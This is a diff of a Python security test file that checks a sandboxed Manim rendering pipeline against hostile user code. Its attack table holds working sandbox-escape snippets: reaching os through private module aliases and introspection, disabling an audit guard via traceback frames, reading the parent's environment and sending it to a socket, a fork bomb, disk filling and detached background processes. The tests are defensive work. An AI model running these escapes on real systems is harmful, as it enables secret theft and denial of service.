@@ -32,7 +32,7 @@ LIMITS = Limits(timeout_seconds=60, memory_mb=1536, file_size_mb=64, work_dir_mb
 
 # Run by every route that reaches a program: writes outside, phones home with what it can read, and leaves a
 # process of its own session behind.
-PAYLOAD = r'''
+PAYLOAD = r"""
 import os, socket, sys, time
 loot = []
 for pid in os.listdir("/proc"):
@@ -53,45 +53,45 @@ except OSError:
 if os.fork() == 0:
     os.setsid()
     time.sleep(300)
-'''
+"""
 
-SCENE_TAIL = '''
+SCENE_TAIL = """
 class Hostile(Scene):
     def construct(self):
         self.add(Dot())
         self.wait(0.3)
-'''
+"""
 
 # (id, module-level attack). Placeholders: {exe} python, {payload} PAYLOAD, {port}, {targets} list of paths,
 # {target} one path, {marker} tag for processes.
 ATTACKS = {
-    "private_alias_to_fork_exec": '''
+    "private_alias_to_fork_exec": """
 import random
 subprocess = random._os.sys.modules["subprocess"]
 subprocess.Popen([{exe!r}, "-c", {payload!r}, str({port}), *{targets!r}, {marker!r}]).wait()
-''',
-    "private_alias_os_mknod_uname": '''
+""",
+    "private_alias_os_mknod_uname": """
 import random
 random._os.mknod({target!r})
 raise ValueError("host " + random._os.uname().nodename)
-''',
-    "attrgetter_methodcaller": '''
+""",
+    "attrgetter_methodcaller": """
 import operator, random
 system = operator.attrgetter("_os.system")(random)
 operator.methodcaller("system", "touch {target}; setsid sh -c 'sleep 300' {marker} &")(random._os)
-''',
-    "formatter_get_field": '''
+""",
+    "formatter_get_field": """
 import random, string
 os_module = string.Formatter().get_field("0._os", [random], {{}})[0]
 os_module.system("touch {target}")
-''',
-    "type_hints_evaluate_code": '''
+""",
+    "type_hints_evaluate_code": """
 import typing, random
 def f(x: "random._os.system('touch {target}')"):
     pass
 typing.get_type_hints(f, globals())
-''',
-    "traceback_into_the_guard": '''
+""",
+    "traceback_into_the_guard": """
 import random
 try:
     random._os.listdir("/etc")
@@ -104,24 +104,25 @@ except Exception as e:
             guard.judge = lambda event, args: None
         tb = tb.tb_next
 random._os.system("touch {target}")
-''',
-    "pyav_writes_reads_and_connects": '''
+""",
+    "pyav_writes_reads_and_connects": """
 import av
 for url in ("http://127.0.0.1:{port}/x", {target!r}):
+    writing = not url.startswith("http")
     try:
-        av.open(url, "w" if not url.startswith("http") else "r", format="mp4" if not url.startswith("http") else None).close()
+        av.open(url, "w" if writing else "r", format="mp4" if writing else None).close()
     except Exception:
         pass
 data = av.open("/etc/hostname", format="data")
 raise ValueError("read " + repr(next(data.demux()).to_bytes()))
-''',
-    "cairo_and_pango_write_outside": '''
+""",
+    "cairo_and_pango_write_outside": """
 import cairo, manimpango
 surface = cairo.ImageSurface(cairo.FORMAT_ARGB32, 8, 8)
 surface.write_to_png({target!r})
 manimpango.MarkupUtils.text2svg("<b>x</b>", "sans", "NORMAL", "NORMAL", 10, 0, False, {target!r} + ".svg", 0, 0, 50, 50)
-''',
-    "file_writer_pointed_elsewhere": '''
+""",
+    "file_writer_pointed_elsewhere": """
 import dataclasses, pathlib
 class Elsewhere(Scene):
     def construct(self):
@@ -129,40 +130,40 @@ class Elsewhere(Scene):
         writer.output_plan = dataclasses.replace(writer.output_plan, primary_artifact=pathlib.Path({target!r} + ".mp4"))
         self.add(Dot())
         self.wait(0.3)
-''',
-    "new_session_outlives_the_render": '''
+""",
+    "new_session_outlives_the_render": """
 import subprocess
 subprocess.Popen(["setsid", {exe!r}, "-c", "import time; time.sleep(300)", {marker!r}], start_new_session=True)
 subprocess.Popen([{exe!r}, "-c", {payload!r}, str({port}), {marker!r}])
-''',
-    "parent_environ_to_a_socket": '''
+""",
+    "parent_environ_to_a_socket": """
 import os, socket
 loot = open(f"/proc/{{os.getppid()}}/environ", "rb").read()
 socket.create_connection(("127.0.0.1", {port})).sendall(loot)
-''',
-    "frame_rate_stretches_the_video": '''
+""",
+    "frame_rate_stretches_the_video": """
 class Stretch(Scene):
     def construct(self):
         self.camera.frame_rate = 600
         self.add(Dot())
         self.wait(2)
-''',
-    "disk_fill_25_times_100_mb": '''
+""",
+    "disk_fill_25_times_100_mb": """
 import os
 for i in range(25):
     with open(f"fill-{{i}}.bin", "wb") as f:
         for _ in range(100):
             f.write(bytes(1 << 20))
-''',
-    "host_name_in_errors": '''
+""",
+    "host_name_in_errors": """
 import socket, os
 raise ValueError(socket.gethostname() + " " + os.uname().nodename + " " + os.environ.get("HOSTNAME", ""))
-''',
-    "fork_storm": '''
+""",
+    "fork_storm": """
 import os
 while True:
     os.fork()
-''',
+""",
 }
 
 
@@ -204,12 +205,19 @@ def test_the_attack_changes_nothing_outside_the_sandbox(attack, layers, tmp_path
     marker = f"hostile-marker-{uuid.uuid4().hex}"
     targets = [str(outside / "pwned"), str(host_tmp)]
     attack_code = textwrap.dedent(ATTACKS[attack]).format(
-        exe="/usr/bin/python3", payload=PAYLOAD, port=listener.getsockname()[1], targets=targets,
-        target=targets[0], marker=marker, outside=str(outside))
+        exe="/usr/bin/python3",
+        payload=PAYLOAD,
+        port=listener.getsockname()[1],
+        targets=targets,
+        target=targets[0],
+        marker=marker,
+        outside=str(outside),
+    )
     code = "from manim import *\n" + attack_code + ("" if "class " in attack_code else SCENE_TAIL)
     work = tmp_path / "work"
-    pipeline = RenderPipeline(RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS), work,
-                              python_layers=layers == "all")
+    pipeline = RenderPipeline(
+        RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS), work, python_layers=layers == "all"
+    )
     produced = pipeline.run(code)
     result = produced.result
 
@@ -237,11 +245,12 @@ def test_the_attack_changes_nothing_outside_the_sandbox(attack, layers, tmp_path
 @pytest.mark.parametrize("case", STATIC_CASES, ids=[c[0] for c in STATIC_CASES])
 def test_the_static_suite_without_the_python_layers_leaves_nothing_behind(case, tmp_path, listener):
     """Every case the static policy refuses, run anyway with layers 1 and 2 off: the kernel holds."""
-    name, body = case[0], case[1]
+    body = case[1]
     marker, outside = tmp_path / "pwned", tmp_path / "outside"
     code = hostile(body.format(marker=marker, outside=outside))
-    produced = RenderPipeline(RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS), tmp_path / "work",
-                              python_layers=False).run(code)
+    produced = RenderPipeline(
+        RenderSettings(max_duration_seconds=MAX_SECONDS, limits=LIMITS), tmp_path / "work", python_layers=False
+    ).run(code)
     assert not marker.exists() and not outside.exists()
     assert str(tmp_path) not in produced.result["message"] and "root:" not in produced.result["message"]
     with pytest.raises(BlockingIOError):
